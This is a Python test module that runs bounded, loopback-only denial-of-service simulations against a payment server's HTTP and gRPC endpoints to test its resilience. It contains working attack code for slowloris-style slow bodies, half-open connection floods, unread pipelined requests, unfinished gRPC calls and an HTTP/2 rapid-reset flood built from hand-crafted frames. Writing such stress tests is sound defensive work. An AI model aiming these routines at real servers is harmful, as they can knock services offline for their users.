"""What exhausts a server before it knows anybody: run as a process of its own by ``tests.simulation.exhaustion``.

``python -m tests.simulation.attacks NAME HTTP GRPC STORE SECONDS``. Bounded in count and time; dials loopback only.
"""

from __future__ import annotations

import asyncio
import json
import resource
import socket
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from typing import Final, NamedTuple

from pycore.config import split_address

ADDRESSES: Final = [f"127.0.1.{number}" for number in range(1, 41)]
_METHOD: Final = "/pycore.payments.v1.PaymentService/CreatePayment"
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
_HEADERS, _RST_STREAM, _END_HEADERS, _CANCEL = 1, 3, 4, 8
_CHUNK_BYTES: Final = 64 << 10


class Target(NamedTuple):
    """What is attacked, and until when (``time.monotonic``)."""

    http: tuple[str, int]
    grpc: tuple[str, int]
    store: str
    until: float

    @property
    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until


async def unread_pipelines(target: Target) -> None:
    """Four megabytes of requests from each of 80 connections, whose answers nobody reads."""
    requests = b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n" * 90_000

    async def attack(source: str) -> None:
        peer = await _dial(source, target.http)
        with peer:
            await _push(peer, requests, target)
            await _wait(target)

    await _from_everywhere(attack, 2)


async def slow_bodies(target: Target) -> None:
    """1,120 bodies of one byte a second."""
    head = b"POST /notifications/wechat/live HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000\r\n\r\n"

    async def attack(source: str) -> None:
        while target.goes_on:
            with suppress(OSError), await _dial(source, target.http) as peer:
                await _push(peer, head, target)
                while target.goes_on:
                    await asyncio.sleep(1)
                    await asyncio.get_running_loop().sock_sendall(peer, b"x")

    await _from_everywhere(attack, 28)


async def half_open(target: Target) -> None:
    """4,120 connections to the HTTP door and 1,000 to the gRPC door that say nothing."""

    async def attack(source: str) -> None:
        with suppress(OSError), await _dial(source, target.http):
            await _wait(target)

    async def attack_rpc(source: str) -> None:
        with suppress(OSError), await _dial(source, target.grpc):
            await _wait(target)

    await asyncio.gather(_from_everywhere(attack, 103), _from_everywhere(attack_rpc, 25))


async def unfinished_calls(target: Target) -> None:
    """A thousand calls on each of 8 connections, whose message never comes."""
    calls = b"".join(_frame(_HEADERS, _END_HEADERS, 2 * number + 1, _call_headers()) for number in range(1000))

    async def attack(source: str) -> None:
        while target.goes_on:
            with suppress(OSError), await _dial(source, target.grpc) as peer:
                await _push(peer, _PREFACE + calls, target)
                await _read_to_end(peer, target)
            await asyncio.sleep(0.2)

    await asyncio.gather(*[attack(source) for source in ADDRESSES[:8]])


async def rapid_resets(target: Target) -> None:
    """Calls that are called off in the next frame, as fast as the server takes them, on 8 connections."""

    async def attack(source: str) -> None:
        while target.goes_on:
            with suppress(OSError), await _dial(source, target.grpc) as peer:
                reading = asyncio.create_task(_read_to_end(peer, target))
                await _push(peer, _PREFACE, target)
                for first in count(1, 200):
                    if reading.done() or not target.goes_on:
                        break
                    frames = [
                        _frame(_HEADERS, _END_HEADERS, stream, _call_headers())
                        + _frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4))
                        for stream in range(first, first + 200, 2)
                    ]
                    await asyncio.get_running_loop().sock_sendall(peer, b"".join(frames))
                await reading
            await asyncio.sleep(0.2)

    await asyncio.gather(*[attack(source) for source in ADDRESSES[:8]])


async def flood(target: Target) -> None:
    """Junk orders at a store's code, and calls without a key, from 40 addresses, as fast as they are answered."""
    keyless = b"GET /v1/payments HTTP/1.1\r\nhost: localhost\r\n\r\n"
    state = f"GET {target.store}/state HTTP/1.1\r\nhost: localhost\r\n\r\n".encode()

    async def attack(source: str) -> None:
        while target.goes_on:
            with suppress(OSError, ValueError, KeyError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(*target.http, local_addr=(source, 0))
                while target.goes_on:
                    await asyncio.wait_for(exchange(reader, writer, keyless), 10)
                    body = await asyncio.wait_for(exchange(reader, writer, state), 10)
                    body = body.partition(b"\r\n\r\n")[2]
                    shown = json.loads(body)
                    chosen = {"order": shown["order"], "amount": "1.00", "channel": shown["offers"][0]["channel"]}
                    junk = json.dumps(chosen).encode()
                    await asyncio.wait_for(exchange(reader, writer, post(f"{target.store}/order", junk)), 10)
            await asyncio.sleep(0.05)

    await _from_everywhere(attack, 5)


ATTACKS: Final[dict[str, Callable[[Target], Awaitable[None]]]] = {
    attack.__name__: attack
    for attack in (unread_pipelines, slow_bodies, half_open, unfinished_calls, rapid_resets, flood)
}


def post(path: str, body: bytes, *headers: str) -> bytes:
    """Return a request with a JSON body."""
    lines = [f"POST {path} HTTP/1.1", "host: localhost", "content-type: application/json", *headers]
    return "\r\n".join([*lines, f"content-length: {len(body)}", "", ""]).encode() + body


async def exchange(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, request: bytes) -> bytes:
    """Send a request and return its answer, head and body."""
    writer.write(request)
    head = await reader.readuntil(b"\r\n\r\n")
    length = next(line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
    return head + await reader.readexactly(int(length.split(b":")[1]))


async def _from_everywhere(attack: Callable[[str], Awaitable[None]], times: int) -> None:
    await asyncio.gather(*[attack(source) for source in ADDRESSES * times], return_exceptions=True)


async def _dial(source: str, address: tuple[str, int]) -> socket.socket:
    peer = socket.socket()
    try:
        peer.setblocking(False)
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(peer, address)
    except OSError:
        peer.close()
        raise
    return peer


async def _push(peer: socket.socket, data: bytes, target: Target) -> None:
    with suppress(TimeoutError):
        async with asyncio.timeout(max(target.until - time.monotonic(), 0)):
            await asyncio.get_running_loop().sock_sendall(peer, data)


async def _read_to_end(peer: socket.socket, target: Target) -> None:
    with suppress(OSError):  # also TimeoutError
        async with asyncio.timeout(max(target.until - time.monotonic(), 0)):
            while await asyncio.get_running_loop().sock_recv(peer, _CHUNK_BYTES):
                pass


async def _wait(target: Target) -> None:
    await asyncio.sleep(max(target.until - time.monotonic(), 0))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _call_headers() -> bytes:
    """Return a call's headers, literal and without a table (RFC 7541 section 6.2.2)."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": _METHOD,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in headers.items()
    )


def main() -> None:
    """Attack for so long."""
    name, http, grpc, store, seconds = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    target = Target(split_address(http), split_address(grpc), store, time.monotonic() + float(seconds))
    asyncio.run(asyncio.wait_for(_attack(name, target), float(seconds) + 10))


async def _attack(name: str, target: Target) -> None:
    await ATTACKS[name](target)


if __name__ == "__main__":
    main()
